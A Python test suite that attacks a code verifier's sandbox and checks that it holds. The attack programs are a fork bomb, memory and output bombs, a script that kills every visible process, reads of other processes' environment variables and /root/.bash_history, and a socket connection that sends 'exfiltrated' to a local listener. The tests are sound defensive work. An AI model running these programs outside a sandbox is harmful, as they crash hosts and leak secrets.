"""Adversarial programs against the code verifier's sandbox. Every test ends with the verifier still
serving (a correct program still passes) and the host untouched (no sandbox process, temp dir or
cgroup left, no file written outside, the secret not leaked, no connection received).

The fork bomb and the kill-everything attack run inside a containment of their own, so that even a
failed defence cannot take the machine down: an outer pids cgroup (limit 200), ``timeout -s KILL``
and a PID namespace around the whole verifier process.
"""
from __future__ import annotations

import ast
import json
import os
import socket
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from dapo_mcore.verify.code import CodeVerifier, CodeVerifierConfig
from dapo_mcore.verify.sandbox import (
    Job,
    SandboxConfig,
    SandboxLimits,
    _cgroup_dir,
    probe_isolation,
)
from dapo_mcore.verify.sandbox import run_contained as sandbox_run_contained

ROOT = Path(__file__).resolve().parent.parent
LIMIT_S = 2.0                      # the limit the attacks run into
SLACK_S = 20.0                     # limit for runs that must finish (the CPU is shared with other work)
ECHO = {"inputs": ["hello\n"], "outputs": ["hello\n"], "timeout_s": SLACK_S}
ISO = probe_isolation(SandboxConfig())
needs_ns = pytest.mark.skipif(not ISO.namespaces, reason="no unshare/namespaces on this host: " + ISO.describe())
needs_root = pytest.mark.skipif(not ISO.privilege_drop, reason="not root: no per-slot uid")


def fence(src: str) -> str:
    return "```python\n" + textwrap.dedent(src) + "```\n"


def sandbox_processes() -> list[int]:
    """Host pids running as a sandbox uid (200000 + ...): must be none between runs."""
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            uid = int((d / "status").read_text().split("\nUid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            continue
        if 200_000 <= uid < 200_000 + 100_000 * 256:
            found.append(int(d.name))
    return found


def sandbox_tempdirs() -> set[str]:
    return {p.name for p in Path(os.environ.get("TMPDIR", "/tmp")).glob("dapo-sbx-*")}


@pytest.fixture(scope="module")
def verifier():
    v = CodeVerifier(cfg=CodeVerifierConfig(timeout_s=LIMIT_S, fail_fast=False))
    yield v
    v.close()
    for ctrl in ("pids", "memory"):
        d = _cgroup_dir(ctrl)
        if d is not None:
            assert not list(d.glob(f"dapo-sandbox-{os.getpid()}-*")), f"{ctrl} cgroup left behind"


@pytest.fixture
def host_check(verifier):
    """Yields; then checks the verifier still serves and nothing of the runs is left on the host."""
    before = sandbox_tempdirs()
    yield
    assert verifier.verify(fence("print(input())\n"), json.dumps(ECHO)) == 1.0, "verifier stopped serving"
    assert sandbox_processes() == [], "sandbox processes left running"
    assert sandbox_tempdirs() <= before, "sandbox temp dirs left behind"


def run(verifier, src: str, spec=None):
    """Verify ``src`` (default spec: echo, with the attack limit LIMIT_S); returns (result, seconds)."""
    spec = spec or {"inputs": ["hello\n"], "outputs": ["hello\n"]}
    t0 = time.monotonic()
    res = verifier.evaluate_many([(fence(src), spec)])[0]
    return res, time.monotonic() - t0


def raw(verifier, src: str, stdin: bytes = b"", **lim):
    """Run ``src`` on the verifier's pool and return the RunResult (to inspect what it printed)."""
    limits = SandboxLimits(**{"wall_s": SLACK_S, "cpu_s": SLACK_S, **lim})
    return verifier.pool.submit(lambda sb: sb.run(Job("stdio", textwrap.dedent(src), stdin=stdin, limits=limits))).result()


# ------------------------------------------------------------------------------------------ time
def test_infinite_loop(verifier, host_check):
    res, dt = run(verifier, "while True:\n    pass\n")
    assert res.verdict == "timeout" and LIMIT_S - 0.1 < dt < LIMIT_S + 5


def test_sleep_past_limit(verifier, host_check):
    res, dt = run(verifier, "import time\ntime.sleep(100)\nprint('hello')\n")
    assert res.verdict == "timeout" and "wall" in res.detail and LIMIT_S - 0.1 < dt < LIMIT_S + 5


def test_cpu_limit_catches_busy_child_threads(verifier, host_check):
    """CPU time (RLIMIT_CPU) is enforced too: 4 spinning threads burn CPU faster than wall time."""
    r = raw(verifier, """
        import threading
        def spin():
            while True: pass
        for _ in range(4): threading.Thread(target=spin, daemon=True).start()
        spin()
    """, wall_s=SLACK_S, cpu_s=1.0)
    assert r.status == "timeout" and "CPU time limit" in r.detail, r


# ---------------------------------------------------------------------------------------- memory
def test_memory_bomb(verifier, host_check):
    """Growing allocation hits RLIMIT_AS (256 MiB here); 8 processes x 200 MiB hit the memory cgroup."""
    sb = SandboxConfig(limits=SandboxLimits(memory_mb=256), workers=1)
    v = CodeVerifier(cfg=CodeVerifierConfig(timeout_s=SLACK_S, sandbox=sb))
    try:
        res, dt = run(v, "x = []\nwhile True:\n    x.append(bytearray(10 ** 7))\n")
        assert res.verdict == "memory_limit" and "MemoryError" in res.detail and dt < SLACK_S
        res, _ = run(v, "import os\nfor _ in range(3):\n    os.fork()\nx = bytearray(200 << 20)\nprint(input())\n")
        assert res.verdict in ("memory_limit", "pass"), res      # 8 x 200 MiB: memory cgroup (if any) steps in
        if ISO.memory_cgroup:
            assert res.verdict == "memory_limit"
    finally:
        v.close()
    res, _ = run(verifier, "x = bytearray(10 ** 11)\n", ECHO)
    assert res.verdict == "memory_limit"


# ---------------------------------------------------------------------------------------- output
def test_one_gigabyte_of_output(verifier, host_check):
    t0 = time.monotonic()
    r = raw(verifier, "import sys\nc = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(c)\n")
    assert r.status == "output_limit" and len(r.stdout) == SandboxLimits().output_bytes
    assert time.monotonic() - t0 < SLACK_S     # stopped at the cap, not at a time limit
    res, _ = run(verifier, "import sys\nc = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(c)\n", ECHO)
    assert res.verdict == "runtime_error" and "stdout exceeded" in res.detail
    # and 1 GiB into a file in its own directory: RLIMIT_FSIZE
    res, _ = run(verifier, "c = b'x' * (1 << 20)\nwith open('big', 'wb') as f:\n"
                           "    for _ in range(1024):\n        f.write(c)\n", ECHO)
    assert res.verdict == "runtime_error" and "File too large" in res.detail


# ---------------------------------------------------------------------------------------- files
@needs_ns
def test_writing_outside_the_temp_dir(verifier, host_check, tmp_path):
    nonce = uuid.uuid4().hex
    targets = [f"{tmp_path}/pwned", f"/tmp/pwned-{nonce}", f"/var/tmp/pwned-{nonce}", f"/dev/shm/pwned-{nonce}",
               f"/root/pwned-{nonce}", f"/etc/pwned-{nonce}", f"{ROOT}/pwned-{nonce}", f"/usr/pwned-{nonce}"]
    try:
        r = raw(verifier, f"""
            import os
            for p in {targets!r}:
                try:
                    with open(p, 'w') as f:
                        f.write('x')
                    print(p, 'written')
                except OSError as e:
                    print(p, type(e).__name__)
            print('cwd', os.getcwd(), os.listdir('.'))
        """)
        assert r.status == "exited" and r.exit_code == 0, r
        out = r.stdout.decode()
        leaked = [p for p in targets if os.path.exists(p)]
        assert leaked == [], f"sandbox wrote to the host: {leaked}\n{out}"
        assert "cwd /tmp/work" in out
    finally:
        for p in targets:
            if os.path.exists(p):
                os.unlink(p)


@needs_ns
def test_reading_the_parents_environment_secrets(verifier, host_check, monkeypatch):
    secret = "dapo-secret-" + uuid.uuid4().hex
    monkeypatch.setenv("DAPO_TEST_SECRET", secret)
    assert os.environ["DAPO_TEST_SECRET"] == secret
    r = raw(verifier, f"""
        import os
        print(dict(os.environ))
        for pid in ['self', '1', '{os.getpid()}', '{os.getppid()}'] + [p for p in os.listdir('/proc') if p.isdigit()]:
            try:
                print(pid, open('/proc/%s/environ' % pid, 'rb').read())
            except OSError as e:
                print(pid, type(e).__name__)
        for path in ['/root/.bash_history', '/proc/1/cmdline']:
            try:
                print(path, open(path, 'rb').read()[:200])
            except OSError as e:
                print(path, type(e).__name__)
    """)
    assert r.status == "exited", r
    out = r.stdout + r.stderr
    assert secret.encode() not in out and b"DAPO_TEST_SECRET" not in out
    env = ast.literal_eval(r.stdout.decode().splitlines()[0])
    assert set(env) <= {"PATH", "HOME", "LANG", "TMPDIR"}


# -------------------------------------------------------------------------------------- network
@pytest.fixture
def listener():
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.3)
    yield srv
    srv.close()


NET_ATTACK = """
    import socket
    try:
        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
        s.sendall(b'exfiltrated')
        print('CONNECTED')
    except OSError as e:
        print('blocked', type(e).__name__, e)
"""


@pytest.mark.parametrize("layers", [
    pytest.param({}, id="netns+audit", marks=needs_ns),
    pytest.param({"audit_network": False}, id="netns-only", marks=needs_ns),
    pytest.param({"use_namespaces": False}, id="audit-hook-only"),
])
def test_opening_a_network_connection(verifier, host_check, listener, layers):
    """Connecting to a server of the host on loopback fails with each layer alone."""
    port = listener.getsockname()[1]
    lim = SandboxLimits(wall_s=SLACK_S, cpu_s=SLACK_S)
    v = CodeVerifier(cfg=CodeVerifierConfig(timeout_s=SLACK_S, sandbox=SandboxConfig(limits=lim, workers=1, **layers)))
    try:
        r = v.pool.submit(lambda sb: sb.run(Job("stdio", textwrap.dedent(NET_ATTACK.format(port=port))))).result()
    finally:
        v.close()
    out = (r.stdout + r.stderr).decode()
    assert "CONNECTED" not in out and ("blocked" in out or "PermissionError" in out), out
    with pytest.raises(TimeoutError):
        listener.accept()
    if layers.get("audit_network") is False:
        assert "Network is unreachable" in out or "ConnectionRefused" in out   # the namespace did it
    else:
        assert "network access is disabled" in out


# ------------------------------------------------------------------------------------- programs
def test_syntax_error(verifier, host_check):
    res, dt = run(verifier, "def f(:\n    return 1\n", ECHO)
    assert res.verdict == "runtime_error" and "SyntaxError" in res.detail and dt < SLACK_S


def test_partial_pass(verifier, host_check):
    spec = {"inputs": ["1\n", "2\n", "3\n"], "outputs": ["1\n", "4\n", "9\n"], "timeout_s": SLACK_S}
    res, _ = run(verifier, "n = int(input())\nprint(n * n if n != 2 else 5)\n", spec)
    assert [t.verdict for t in res.tests] == ["pass", "wrong_answer", "pass"] and res.verdict == "wrong_answer"
    assert res.reward == 0.0
    v = CodeVerifier(cfg=CodeVerifierConfig(timeout_s=LIMIT_S, reward="fraction", fail_fast=False))
    try:
        assert v.verify(fence("n = int(input())\nprint(n * n if n != 2 else 5)\n"), json.dumps(spec)) == pytest.approx(2 / 3)
        assert v.stats.tests["pass"] == 2 and v.stats.tests["wrong_answer"] == 1
    finally:
        v.close()


# ----------------------------------------------------------------------- contained: processes
def run_contained(script: str, tmp_path: Path, timeout_s: int = 90) -> tuple[dict, dict]:
    """Run ``script`` (Python) as a whole verifier process inside :func:`sandbox.run_contained` (outer pids
    cgroup limit 200, ``timeout -s KILL``, PID namespace). Returns (its JSON on the last stdout line, the
    outer cgroup's pids.events)."""
    path = tmp_path / "contained.py"
    path.write_text(script)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "OMP_NUM_THREADS": "1", "PYTHONPATH": str(ROOT)}
    r = sandbox_run_contained([sys.executable, str(path)], pids_max=200, timeout_s=timeout_s, cwd=ROOT, env=env)
    assert r.returncode == 0, f"contained verifier died (exit {r.returncode}):\n{r.stdout[-3000:]}\n{r.stderr[-3000:]}"
    return json.loads(r.stdout.strip().splitlines()[-1]), r.pids_events


CONTAINED = """
import json, time
from dapo_mcore.verify.code import CodeVerifier, CodeVerifierConfig
from dapo_mcore.verify.sandbox import SandboxConfig
v = CodeVerifier(cfg=CodeVerifierConfig(timeout_s={limit}, sandbox=SandboxConfig(use_cgroups={cgroups})))
t0 = time.monotonic()
bad = v.evaluate_many([({attack!r}, {{"inputs": ["x\\n"], "outputs": ["x\\n"]}})])[0]
dt = time.monotonic() - t0
good = v.verify("```python\\nprint(input())\\n```",
                json.dumps({{"inputs": ["ok\\n"], "outputs": ["ok\\n"], "timeout_s": 20}}))
v.close()
print(json.dumps({{"verdict": bad.verdict, "detail": bad.detail, "time": dt, "good": good,
                  "isolation": v.stats.isolation}}))
"""

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


@pytest.mark.parametrize("cgroups", [pytest.param(True, id="pids-cgroup"),
                                     pytest.param(False, id="uid-nproc-only", marks=needs_root)])
def test_fork_bomb(host_check, tmp_path, cgroups):
    out, events = run_contained(CONTAINED.format(limit=LIMIT_S, cgroups=cgroups, attack=fence(FORK_BOMB)), tmp_path)
    assert out["verdict"] == "timeout" and out["time"] < LIMIT_S + 8 and out["good"] == 1.0, out
    if events:
        assert events.get("max") == 0, f"the outer safety cgroup had to stop the bomb: {events}"


KILL_ALL = """
import os, signal
res = []
for target in [os.getppid(), 1, -1] + [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(target, signal.SIGKILL)
        res.append('%d:sent' % target)
    except OSError as e:
        res.append('%d:%s' % (target, type(e).__name__))
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
print(input())
"""


def test_killing_the_parent(host_check, tmp_path):
    """kill(ppid), kill(1), kill(-1) and every visible pid, then its own process group: the verifier
    (outside the sandbox's PID namespace, another uid) survives and keeps serving."""
    out, _ = run_contained(CONTAINED.format(limit=LIMIT_S, cgroups=True, attack=fence(KILL_ALL)), tmp_path)
    assert out["good"] == 1.0 and out["verdict"] in ("runtime_error", "pass"), out


@pytest.mark.skipif(not (ISO.pids_cgroup and ISO.memory_cgroup), reason="no writable cgroup-v1 pids+memory")
def test_program_runs_inside_its_slots_cgroups(verifier, host_check):
    """The fork-bomb and memory limits apply: the program's processes sit in the slot's cgroups
    (inherited from the worker thread, which is never signalled by the clean-up)."""
    r = raw(verifier, """
        import os
        pid = os.fork()
        if pid == 0:
            print(open('/proc/self/cgroup').read(), flush=True)
            os._exit(0)
        os.waitpid(pid, 0)
    """)
    lines = {ln.split(":")[1]: ln.split(":")[2] for ln in r.stdout.decode().splitlines() if ln.count(":") >= 2}
    assert "/dapo-sandbox-" in lines["pids"] and lines["pids"].rsplit("/", 1)[1].startswith("slot-"), r
    assert "/dapo-sandbox-" in lines["memory"] and lines["memory"].rsplit("/", 1)[1].startswith("slot-"), r
